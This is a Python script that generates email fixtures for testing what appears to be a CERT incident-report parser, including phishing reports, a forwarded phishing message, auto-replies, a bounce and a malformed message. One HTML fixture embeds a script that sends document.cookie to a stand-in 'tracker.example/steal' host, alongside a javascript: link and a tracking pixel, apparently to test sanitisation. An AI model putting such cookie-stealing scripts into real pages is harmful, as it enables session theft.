# ruff: noqa
"""Writes tests/data/mail/*.eml (run once; the files are committed)."""

import base64, quopri, sys
from email.header import Header
from pathlib import Path

OUT = Path(sys.argv[1])
CRLF = "\r\n"


def b64(data: bytes) -> str:
    s = base64.b64encode(data).decode()
    return CRLF.join(s[i : i + 76] for i in range(0, len(s), 76))


def qp(text: str, charset="utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode().replace("\n", CRLF)


def write(name, text: str, extra: bytes = b""):
    data = text.replace("\r\n", "\n").replace("\n", CRLF).encode("utf-8") + extra
    (OUT / name).write_bytes(data)


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
CSV = "ip,premiere_vue,derniere_vue\n203.0.113.45,2026-12-03T08:14:00Z,2026-12-03T09:02:00Z\n198.51.100.7,2026-12-03T08:20:00Z,2026-12-03T08:21:00Z\n".encode()

plain_fr = """Bonjour,

Nous avons reçu ce matin plusieurs courriels d'hameçonnage ciblant les agents du ministère.
Le lien mène vers https://secure-login.interieur-gov.example/owa/auth.php et les connexions
proviennent de l'adresse 203.0.113.45.

Vous trouverez ci-joint le rapport et la liste des adresses IP observées.

Cordialement,
Karim Benali
Responsable de la sécurité des systèmes d'information
Ministère de l'Intérieur
"""
html_fr = (
    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>p.MsoNormal{margin:0}</style></head>'
    "<body lang=FR><div class=WordSection1><p class=MsoNormal>Bonjour,</p><p class=MsoNormal>Nous avons reçu ce matin plusieurs courriels "
    "d'hameçonnage ciblant les agents du ministère.</p><p class=MsoNormal>Cordialement,<br>Karim Benali</p></div></body></html>"
)
write(
    "report_fr_outlook.eml",
    f"""Received: from mail.interieur.gov.ma (mail.interieur.gov.ma [192.0.2.25])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 4QxLm2
	for <signalement@cert.gov.ma>; Thu,  3 Dec 2026 10:15:02 +0100 (CET)
Authentication-Results: mx.cert.gov.ma; spf=pass smtp.mailfrom=interieur.gov.ma; dkim=pass header.d=interieur.gov.ma; dmarc=pass header.from=interieur.gov.ma
From: =?iso-8859-1?Q?Karim_Benali_=28Minist=E8re_de_l=27Int=E9rieur=29?= <K.Benali@Interieur.gov.ma>
To: "CERT" <signalement@cert.gov.ma>
CC: rssi@interieur.gov.ma
Subject: =?iso-8859-1?Q?Signalement_d=27un_hame=E7onnage_cibl=E9_des_agents_du_?=
 =?iso-8859-1?Q?minist=E8re?=
Thread-Topic: =?iso-8859-1?Q?Signalement_d=27un_hame=E7onnage?=
Thread-Index: AdlGq2sB3mJ0d8p1T0aVq1x2bC3d4A==
Date: Thu, 3 Dec 2026 09:14:51 +0000
Message-ID: <PR3P192MB0876A1B2C3D4E5F6@PR3P192MB0876.EURP192.PROD.OUTLOOK.COM>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="_004_PR3P192MB0876A1B2_"

--_004_PR3P192MB0876A1B2_
Content-Type: multipart/alternative;
	boundary="_000_PR3P192MB0876A1B2_"

--_000_PR3P192MB0876A1B2_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(plain_fr)}
--_000_PR3P192MB0876A1B2_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html_fr)}
--_000_PR3P192MB0876A1B2_--

--_004_PR3P192MB0876A1B2_
Content-Type: application/pdf; name="Rapport_incident_03-12-2026.pdf"
Content-Description: Rapport_incident_03-12-2026.pdf
Content-Disposition: attachment; filename="Rapport_incident_03-12-2026.pdf"; size={len(PDF)};
	creation-date="Thu, 03 Dec 2026 09:13:00 GMT";
	modification-date="Thu, 03 Dec 2026 09:14:00 GMT"
Content-Transfer-Encoding: base64

{b64(PDF)}

--_004_PR3P192MB0876A1B2_
Content-Type: text/csv; name="adresses_ip.csv"
Content-Description: adresses_ip.csv
Content-Disposition: attachment; filename="adresses_ip.csv"; size={len(CSV)}
Content-Transfer-Encoding: base64

{b64(CSV)}

--_004_PR3P192MB0876A1B2_--
""",
)

plain_ar = """السلام عليكم،

نبلغكم بأن عدداً من موظفي الوزارة تلقوا رسائل تصيد احتيالي تنتحل صفة مصلحة الموارد البشرية.
الرابط المستعمل: http://rh-portail.example.net/login
عنوان الخادم: 198.51.100.23

مرفق التقرير.

مع التحية،
مديرية نظم المعلومات
"""
name_ar = "تقرير_الحادث.pdf"
from urllib.parse import quote

write(
    "report_ar_rfc2231.eml",
    f"""Received: from smtp.sante.gov.ma (smtp.sante.gov.ma [192.0.2.40])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 7TgH1k
	for <signalement@cert.gov.ma>; Thu,  3 Dec 2026 11:02:10 +0100 (CET)
From: =?UTF-8?B?{base64.b64encode("مديرية نظم المعلومات".encode()).decode()}?= <dsi@sante.gov.ma>
To: signalement@cert.gov.ma
Subject: =?UTF-8?B?{base64.b64encode("بلاغ عن حادث: تصيد احتيالي".encode()).decode()}?=
 =?windows-1256?B?{base64.b64encode(" يستهدف الوزارة".encode("cp1256")).decode()}?=
Date: Thu, 03 Dec 2026 11:01:58 +0100
Message-ID: <a7c1e2f0-3b44-4d1a-9f0e-52b6d1c8e901@sante.gov.ma>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=-=-=ar-boundary-1=-=-="

--=-=-=ar-boundary-1=-=-=
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64(plain_ar.encode())}
--=-=-=ar-boundary-1=-=-=
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*=utf-8''{quote(name_ar)}
Content-Transfer-Encoding: base64

{b64(PDF)}
--=-=-=ar-boundary-1=-=-=--
""",
)

html_only = """<!DOCTYPE html>
<html><head><title>Alerte</title><style>body {{ font-family: Arial }}</style>
<script>document.location='https://tracker.example/steal?c='+document.cookie</script></head>
<body>
<h2>Signalement d&#39;un site frauduleux</h2>
<p>Bonjour,<br>Un faux portail de la <b>Direction G&eacute;n&eacute;rale des Imp&ocirc;ts</b> circule :</p>
<ul><li>URL : <a href="https://dgi-remboursement.example.com/fr/">le faux portail</a></li>
<li>H&eacute;bergeur : 203.0.113.80</li>
<li><a href="javascript:alert('x')">Ne pas cliquer</a></li></ul>
<p>Merci de votre aide.</p>
<img src="https://tracker.example/open.gif?id=884" width="1" height="1">
<img src="cid:logo@finances" alt="Logo du minist&egrave;re">
</body></html>
"""
write(
    "report_html_only.eml",
    f"""Received: from mail.finances.gov.ma (mail.finances.gov.ma [192.0.2.60])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 9KdP3q; Fri,  4 Dec 2026 08:30:41 +0100 (CET)
From: "Service informatique" <informatique@finances.gov.ma>
To: <signalement@cert.gov.ma>
Subject: =?ISO-8859-15?Q?Site_frauduleux_=A4_rembours=E9?=
Date: Fri, 4 Dec 2026 08:30:30 +0100
Message-ID: <20261204073030.1A2B3C@mail.finances.gov.ma>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html_only)}""",
)

phish_html = """<html><body><p>Cher utilisateur,</p><p>Votre bo&icirc;te aux lettres a atteint sa limite.
<a href="https://webmail-interieur.example.org/verify?u=agent">Cliquez ici pour valider votre compte</a>
dans les 24 heures.</p><p>L'&eacute;quipe informatique</p></body></html>"""
inner = f"""Return-Path: <bounce@mailer.example.org>
Received: from mailer.example.org (unknown [185.220.101.34])
	by mail.interieur.gov.ma (Postfix) with ESMTP id 51AB2C
	for <agent@interieur.gov.ma>; Wed,  2 Dec 2026 22:41:07 +0100 (CET)
From: "Support Messagerie" <support@webmail-interieur.example.org>
Reply-To: recover@mail-collect.example.net
To: agent@interieur.gov.ma
Subject: =?UTF-8?Q?Votre_bo=C3=AEte_aux_lettres_est_pleine?=
Date: Wed, 02 Dec 2026 21:40:55 +0000
Message-ID: <8c1f0d2e.phish@mailer.example.org>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64(phish_html.encode())}
"""
write(
    "forwarded_phishing_rfc822.eml",
    f"""Received: from mail.interieur.gov.ma (mail.interieur.gov.ma [192.0.2.25])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 2WqZ8n; Thu,  3 Dec 2026 08:05:12 +0100 (CET)
From: Agent Ministere <agent@interieur.gov.ma>
To: signalement@cert.gov.ma
Subject: =?UTF-8?Q?TR=C2=A0:_Votre_bo=C3=AEte_aux_lettres_est_pleine?=
Date: Thu, 3 Dec 2026 08:05:00 +0100
Message-ID: <f0e1d2c3-0001@interieur.gov.ma>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd-boundary-42"

--fwd-boundary-42
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bonjour,
Je vous transfère un courriel suspect reçu hier soir (en pièce jointe).
Agent
--fwd-boundary-42
Content-Type: message/rfc822
Content-Disposition: attachment

{inner}
--fwd-boundary-42--
""",
)

reply_text = """Bonjour,

Merci pour votre retour. Les journaux du pare-feu sont en pièce jointe ; l'adresse
198.51.100.77 apparaît aussi le 2 décembre.

Cordialement,
Karim Benali

-----Message d'origine-----
De : CERT <cert@cert.gov.ma>
Envoyé : jeudi 3 décembre 2026 15:20
À : Karim Benali <k.benali@interieur.gov.ma>
Objet : [MACERT-2026-000042] Signalement d'un hameçonnage

Bonjour,
Pourriez-vous nous transmettre les journaux du pare-feu ?
> Nous avons reçu ce matin plusieurs courriels d'hameçonnage
"""
LOG = b"2026-12-02T10:11:12Z DENY TCP 198.51.100.77:443 -> 10.1.2.3:51522\n"
write(
    "reply_fr_quoted.eml",
    f"""Received: from mail.interieur.gov.ma (mail.interieur.gov.ma [192.0.2.25])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 3RtY7u; Fri,  4 Dec 2026 09:12:40 +0100 (CET)
From: Karim Benali <k.benali@interieur.gov.ma>
To: CERT <cert@cert.gov.ma>
Subject: =?utf-8?Q?RE=C2=A0:_Re:_[MACERT-2026-000042]_Signalement_d'un_hame?=
 =?utf-8?Q?=C3=A7onnage?=
Date: Fri, 4 Dec 2026 08:12:31 +0000
Message-ID: <PR3P192MB0876B9C8@PR3P192MB0876.EURP192.PROD.OUTLOOK.COM>
In-Reply-To: <vigie.4f2a9c@cert.gov.ma>
References: <PR3P192MB0876A1B2C3D4E5F6@PR3P192MB0876.EURP192.PROD.OUTLOOK.COM>
 <vigie.4f2a9c@cert.gov.ma>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="reply-b1"

--reply-b1
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(reply_text)}
--reply-b1
Content-Type: text/plain; name="pare-feu.log"
Content-Disposition: attachment; filename="pare-feu.log"
Content-Transfer-Encoding: base64

{b64(LOG)}
--reply-b1--
""",
)

OOF_FR = "Bonjour,\n\nJe suis absente du bureau jusqu'au 14 décembre 2026 inclus.\nPour toute urgence, contactez le standard.\n\nSalma Alaoui\n"
write(
    "auto_reply_fr.eml",
    f"""Received: from mail.justice.gov.ma (mail.justice.gov.ma [192.0.2.70])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 6YuI9o; Fri,  4 Dec 2026 09:30:00 +0100 (CET)
Return-Path: <s.alaoui@justice.gov.ma>
From: Salma Alaoui <s.alaoui@justice.gov.ma>
To: cert@cert.gov.ma
Subject: =?utf-8?Q?R=C3=A9ponse_automatique=C2=A0:_[MACERT-2026-000042]_Demande?=
 =?utf-8?Q?_d'informations?=
Date: Fri, 4 Dec 2026 09:29:58 +0100
Message-ID: <auto.1a2b3c@justice.gov.ma>
In-Reply-To: <vigie.77aa01@cert.gov.ma>
Auto-Submitted: auto-replied
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(OOF_FR)}""",
)

write(
    "auto_reply_exchange.eml",
    f"""Received: from EXCH01.equipement.gov.ma (192.0.2.90) by mx.cert.gov.ma with ESMTPS; Fri, 4 Dec 2026 10:02:11 +0100
From: Youssef Tazi <y.tazi@equipement.gov.ma>
To: CERT <cert@cert.gov.ma>
Subject: =?utf-8?Q?Automatic_reply:_[MACERT-2026-000051]_Vuln=C3=A9rabilit=C3=A9?=
 =?utf-8?Q?_critique?=
Thread-Topic: [MACERT-2026-000051] Vulnerabilite critique
Date: Fri, 4 Dec 2026 09:02:09 +0000
Message-ID: <0b3e7f91e5a84c2d@EXCH01.equipement.gov.ma>
In-Reply-To: <vigie.88bb02@cert.gov.ma>
X-MS-Exchange-Organization-AuthAs: Internal
X-Auto-Response-Suppress: All
Content-Language: en-US
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

I am out of the office until Monday 7 December with limited access to e-mail.
""",
)

orig = """Return-Path: <cert@cert.gov.ma>
From: CERT <cert@cert.gov.ma>
To: ancien.contact@agriculture.gov.ma
Subject: [MACERT-2026-000042] Accuse de reception
Date: Fri, 4 Dec 2026 10:00:00 +0100
Message-ID: <vigie.99cc03@cert.gov.ma>
Auto-Submitted: auto-generated
Content-Type: text/plain; charset=utf-8

Votre signalement a bien ete recu.
"""
write(
    "bounce_dsn.eml",
    f"""Return-Path: <>
Received: by mx.cert.gov.ma (Postfix) id 0C1D2E; Fri,  4 Dec 2026 10:00:05 +0100 (CET)
Date: Fri,  4 Dec 2026 10:00:05 +0100 (CET)
From: MAILER-DAEMON@mx.cert.gov.ma (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: cert@cert.gov.ma
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="0C1D2E.1733302805/mx.cert.gov.ma"
Message-Id: <20261204090005.0C1D2E@mx.cert.gov.ma>

This is a MIME-encapsulated message.

--0C1D2E.1733302805/mx.cert.gov.ma
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.cert.gov.ma.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<ancien.contact@agriculture.gov.ma>: host mail.agriculture.gov.ma[192.0.2.110]
    said: 550 5.1.1 <ancien.contact@agriculture.gov.ma>: Recipient address
    rejected: User unknown in virtual mailbox table

--0C1D2E.1733302805/mx.cert.gov.ma
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.cert.gov.ma
X-Postfix-Queue-ID: 0C1D2E
Arrival-Date: Fri,  4 Dec 2026 10:00:01 +0100 (CET)

Final-Recipient: rfc822; ancien.contact@agriculture.gov.ma
Action: failed
Status: 5.1.1
Remote-MTA: dns; mail.agriculture.gov.ma
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--0C1D2E.1733302805/mx.cert.gov.ma
Content-Description: Undelivered Message
Content-Type: message/rfc822

{orig}
--0C1D2E.1733302805/mx.cert.gov.ma--
""",
)

write(
    "mailing_list.eml",
    """Received: from lists.first.example (lists.first.example [192.0.2.130])
	by mx.cert.gov.ma (Postfix) with ESMTPS id 8UiO2p; Fri,  4 Dec 2026 11:00:00 +0100 (CET)
From: "Coordination CSIRT" <coordination@lists.first.example>
To: csirt-africa@lists.first.example
Subject: [csirt-africa] Weekly threat digest
Date: Fri, 4 Dec 2026 10:59:00 +0100
Message-ID: <digest-2026-49@lists.first.example>
Precedence: list
List-Id: CSIRT Africa <csirt-africa.lists.first.example>
List-Unsubscribe: <mailto:csirt-africa-leave@lists.first.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

This week: 3 new advisories.
""",
)

write(
    "dmarc_fail_spoofed.eml",
    """Authentication-Results: mx.cert.gov.ma; spf=fail smtp.mailfrom=interieur.gov.ma; dkim=none; dmarc=fail (p=reject) header.from=interieur.gov.ma
Received: from vps-4411.example.net (vps-4411.example.net [203.0.113.99])
	by mx.cert.gov.ma (Postfix) with ESMTP id 1ZxC4v
	for <signalement@cert.gov.ma>; Fri,  4 Dec 2026 12:00:00 +0100 (CET)
Authentication-Results: mx.cert.gov.ma; spf=pass smtp.mailfrom=interieur.gov.ma; dkim=pass header.d=interieur.gov.ma; dmarc=pass header.from=interieur.gov.ma
Return-Path: <k.benali@interieur.gov.ma>
From: Karim Benali <k.benali@interieur.gov.ma>
To: signalement@cert.gov.ma
Subject: Urgent : nouvelle liste de contacts
Date: Fri, 4 Dec 2026 11:59:50 +0100
Message-ID: <spoof-001@vps-4411.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Merci de mettre a jour nos contacts avec le fichier ci-joint.
""",
)

broken = (
    b"Received: from unknown (HELO x) ([203.0.113.200]) by mx.cert.gov.ma; Fri, 4 Dec 2026 13:00:00 +0100\r\n"
    b'From: "Bro\x00ken" <broken@douane.gov.ma>\r\n'
    b"To: signalement@cert.gov.ma\r\n"
    b"Subject: =?x-unknown-charset?Q?Rapport_=E9t=E9?= \x01\x02suite\r\n"
    b"Date: not a date at all\r\n"
    b"Message-ID: broken-id-without-brackets@douane.gov.ma\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="declared-boundary"\r\n'
    b"\r\n"
    b"--actual-boundary\r\n"
    b"Content-Type: text/plain; charset=x-unknown-charset\r\n"
    b"\r\n"
    b"Texte avec un octet NUL \x00 ici, un \x07 et un caract\xe8re latin.\r\n"
    b"--actual-boundary--\r\n"
)
(OUT / "broken_mime.eml").write_bytes(broken)
